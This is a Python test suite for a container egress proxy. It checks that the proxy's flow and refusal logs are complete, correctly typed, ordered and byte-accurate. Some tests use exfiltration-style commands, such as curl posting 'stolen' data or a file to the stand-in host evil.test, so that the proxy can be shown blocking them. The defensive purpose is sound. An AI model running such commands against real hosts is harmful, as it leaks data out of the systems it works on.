#!/usr/bin/env python3
"""flows.jsonl and blocked.jsonl: one line for each exchange and each refusal, complete, in order, with the right sums."""

import datetime
import hashlib
import json
import os
import re
import signal
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from checks import *

POLICY = "allow:\n  - ok.test\n  - {host: db.test, ports: [5432], inspect: false}\nignore_hosts: ['pinned\\.test']\n"
FLOW = {"ts": (int, float), "host": str, "method": (str, type(None)), "path": (str, type(None)), "status": (int, type(None)), "req_size": int, "req_body_sha256": (str, type(None)),
        "req_body_preview": (str, type(None)), "resp_size": int, "time": str, "seq": int, "id": str, "container": str, "state": str, "decision": str, "rule": (str, type(None)), "scheme": str,
        "port": int, "http_version": (str, type(None)), "sni": (str, type(None)), "dst_ip": (str, type(None)), "bytes_up": int, "bytes_down": int, "duration_ms": (int, float),
        "process": (str, type(None)), "secrets": list, "error": (str, type(None))}
BLOCKED = {"ts": (int, float), "event": str, "host": str, "method": (str, type(None)), "path": (str, type(None)), "reason": str, "layer": str, "rule": (str, type(None)), "state": str, "seq": int}


def seqs(lines):
    return [line["seq"] for line in lines]


def proxy_pid(container):
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and open(f"/proc/{pid}/cmdline").read().split("\0")[:2] == ["leash-proxy", container.id]:
                return int(pid)
        except OSError:
            pass
    return None


@check("a request is one line with all fields and their types", leashed=True)
def _():
    with Container(*with_policy(POLICY), TEST, "sleep", "600") as container:
        body = "hello body"
        container.sh(f"curl -sm9 -d '{body}' 'https://ok.test/path?q=1' -o /dev/null").ok()
        flow = eventually(container.flows, 5)[0]
        that(flow["rule"].startswith("allow[0] ok.test"), flow)
        for name, kind in FLOW.items():
            that(name in flow and isinstance(flow[name], kind), name, flow)
        equal((flow["state"], flow["decision"], flow["method"], flow["host"], flow["path"], flow["status"], flow["port"], flow["scheme"], flow["sni"], flow["dst_ip"]),
              ("inspected", "allow", "POST", "ok.test", "/path?q=1", 200, 443, "https", "ok.test", "203.0.113.20"))
        equal((flow["req_size"], flow["req_body_sha256"], flow["req_body_preview"]), (len(body), hashlib.sha256(body.encode()).hexdigest(), body))
        equal("/" + flow["container"], container.inspect("{{.Name}}"))
        that(abs(datetime.datetime.fromisoformat(flow["time"].replace("Z", "+00:00")).timestamp() - time.time()) < 60, flow)


@check("a line names the process that connected, as the container counts it", leashed=True)
def _():
    with Container(*with_policy(POLICY), TEST, "sleep", "600") as container:
        container.sh("curl -sm9 https://ok.test/by-curl -o /dev/null").ok()
        container.exec("python3", "-c", "import urllib.request as u; u.urlopen('https://ok.test/by-python').read()").ok()
        container.sh("cp $(command -v curl) '/tmp/e\nvil\x1b'; '/tmp/e\nvil\x1b' -sm9 https://ok.test/by-evil -o /dev/null")
        container.sh("curl -sm9 --resolve evil.test:443:203.0.113.9 https://evil.test/refused")
        flows = eventually(lambda: len(container.flows()) >= 3 and container.flows(), 5, container.flows())
        names = {flow["path"]: flow["process"] or "" for flow in flows}
        that(re.fullmatch(r"[0-9]+ curl \(/usr/bin/curl\)", names["/by-curl"]), flows)
        that(re.fullmatch(r"[0-9]+ python3[.0-9]* \(/usr/bin/python3[.0-9]*\)", names["/by-python"]), flows)
        that(int(names["/by-curl"].split()[0]) < 1000, "not a pid of the container's namespace", flows)
        that("e\nvil\x1b" in names["/by-evil"], flows)
        blocked = eventually(lambda: [b for b in container.blocked() if b["path"] == "/refused"], 5)
        that(re.fullmatch(r"[0-9]+ curl \(/usr/bin/curl\)", blocked[0]["process"] or ""), blocked)


@check("a refusal is one line with its reason, layer and rule", leashed=True)
def _():
    with Container(*with_policy(POLICY), TEST, "sleep", "600") as container:
        container.sh("curl -sm9 --resolve evil.test:443:203.0.113.9 https://evil.test/x?y -d stolen")
        line = eventually(lambda: [b for b in container.blocked() if b["layer"] == "http"], 5)[0]
        for name, kind in BLOCKED.items():
            that(name in line and isinstance(line[name], kind), name, line)
        equal((line["state"], line["host"], line["method"], line["path"], line["reason"]), ("blocked", "evil.test", "POST", "/x?y", "host_not_allowed"))


@check("seq counts from 1 without holes in both files, under parallel load and refusals", leashed=True)
def _():
    with Container(*with_policy(POLICY), TEST, "sleep", "600") as container:
        container.sh("for i in $(seq 8); do (for j in $(seq 10); do curl -sm9 -o /dev/null https://ok.test/$i/$j; curl -sm9 -o /dev/null --resolve evil.test:80:203.0.113.9 http://evil.test/$i/$j; done) & done; wait", timeout=120)
        eventually(lambda: len(container.flows()) == 80 and len([b for b in container.blocked() if b["layer"] == "http"]) == 80, 10, (len(container.flows()), len(container.blocked())))
        equal(seqs(container.flows()), list(range(1, 81)))
        equal(seqs(container.blocked()), list(range(1, len(container.blocked()) + 1)))
        equal(len({f["path"] for f in container.flows()}), 80)
        equal(len({f["id"] for f in container.flows()}), 80)


@check("bytes of inspected, passed and blocked add up to what crossed the interface", leashed=True)
def _():
    with Container(*with_policy(POLICY), TEST, "sleep", "600") as container:
        container.sh("head -c 200000 /dev/urandom >/tmp/b; curl -sm9 -T /tmp/b https://ok.test/up -o /dev/null; curl -sm9 https://ok.test/bytes/300000 -o /dev/null; "
                     "curl -sm9 http://ok.test/bytes/100000 -o /dev/null; (cat /tmp/b; sleep 0.5) | timeout 5 nc -q1 db.test 5432 >/dev/null; "
                     "curl -skm9 https://pinned.test/bytes/50000 -o /dev/null; curl -sm9 --resolve evil.test:443:203.0.113.9 https://evil.test/ -d @/tmp/b -o /dev/null")
        def sums():
            totals = {}
            for line in container.flows() + container.blocked():
                up, down = totals.get(line["state"], (0, 0))
                totals[line["state"]] = (up + line.get("bytes_up", 0), down + line.get("bytes_down", 0))
            return totals
        def complete():
            return len(container.flows()) >= 5 and [b for b in container.blocked() if b["layer"] == "http"]
        eventually(complete, 8, sums())
        totals = sums()
        that(200000 < totals["inspected"][0] < 230000 and 400000 < totals["inspected"][1] < 450000, totals)
        that(200000 <= totals["passed"][0] < 210000 and 250000 < totals["passed"][1] < 270000, totals)
        that(totals["blocked"][0] > 500, totals)  # curl need not send its body once it has the 403


@check("one object a line, UTF-8, under 16 KiB, whatever the container sends", leashed=True)
def _():
    with Container(*with_policy(POLICY), TEST, "sleep", "600") as container:
        script = r"""
import socket, ssl
c = ssl.create_default_context()
for path in ("/" + "a" * 6000, "/%0a%0d%22%5c", "/quote\"back\\slash", "/\xff\xfe", "/\x1b[31mred"):
    for body in (b"", b"\xff\x00\"\n{}" * 1000):
        try:
            s = c.wrap_socket(socket.create_connection(("ok.test", 443), 5), server_hostname="ok.test"); s.settimeout(3)
            s.sendall(("POST " + path + " HTTP/1.1\r\nHost: ok.test\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(body)).encode("latin-1") + body)
            while s.recv(65536): pass
        except OSError: pass
"""
        container.exec("python3", "-c", script, timeout=60).ok()
        eventually(lambda: len(container.flows()) + len(container.blocked()) >= 10, 8)
        for name in ("flows", "blocked"):
            path = f"{log_directory(container.id)}/{name}.jsonl"
            data = open(path, "rb").read() if os.path.exists(path) else b""
            for line in data.decode("utf-8").splitlines(keepends=True):
                that(line.endswith("\n") and len(line.encode()) < 16384, line[:200])
                that(isinstance(json.loads(line), dict) and "\x1b" not in line, line[:200])


@check("logs are complete and seq goes on after kill -9 of the proxy in the middle of requests", leashed=True)
def _():
    with Container(*with_policy(POLICY), TEST, "sleep", "600") as container:
        container.sh("curl -sm9 -o /dev/null https://ok.test/before").ok()
        container.exec("sh", "-c", "for i in 1 2 3; do curl -sm20 -o /dev/null https://ok.test/hang & done; curl -sm20 -o /dev/null https://ok.test/sse/200 & wait", flags=["-d"])
        time.sleep(1.5)
        os.kill(eventually(lambda: proxy_pid(container)), signal.SIGKILL)
        eventually(lambda: container.sh("curl -sm3 -o /dev/null -w '%{http_code}' https://ok.test/after").out == "200", 15, "the proxy does not come back")
        flows = eventually(lambda: [f for f in container.flows() if f["path"] == "/after"] and container.flows(), 5)
        equal(seqs(flows), list(range(1, len(flows) + 1)), flows)
        cut = [f for f in flows if f["error"] == "proxy_terminated"]
        equal(sorted(f["path"] for f in cut), ["/hang", "/hang", "/hang", "/sse/200"], flows)


@check("while the proxy is dead connections are refused, not passed", leashed=True)
def _():
    wire = Wire()
    with Container(*with_policy(POLICY), TEST, "sleep", "600") as container:
        for _ in range(5):
            pid = proxy_pid(container)
            if pid:
                os.kill(pid, signal.SIGKILL)
            container.sh("curl -skm2 https://203.0.113.9/; curl -sm2 http://203.0.113.9/; true")
        equal(wire.towards("203.0.113.9"), [])


@check("logs stay after the container, readable by root alone, and leash logs shows them", leashed=True)
def _():
    ran, flows, blocked = run_logged(*with_policy(POLICY), TEST, "sh", "-c", "curl -sm9 https://ok.test/kept -o /dev/null; curl -sm9 --resolve evil.test:80:203.0.113.9 http://evil.test/")
    equal([f["path"] for f in flows], ["/kept"])
    that(blocked)


@check("a container that did nothing leaves no log directory", leashed=True)
def _():
    created = docker("create", "--runtime", RUNTIME, *with_policy(POLICY), BUSYBOX, "true").ok().out.strip()
    docker("start", "-a", created).ok()
    docker("rm", "-f", created).ok()
    eventually(lambda: not os.path.exists(log_directory(created)), 5, "left behind")


main()
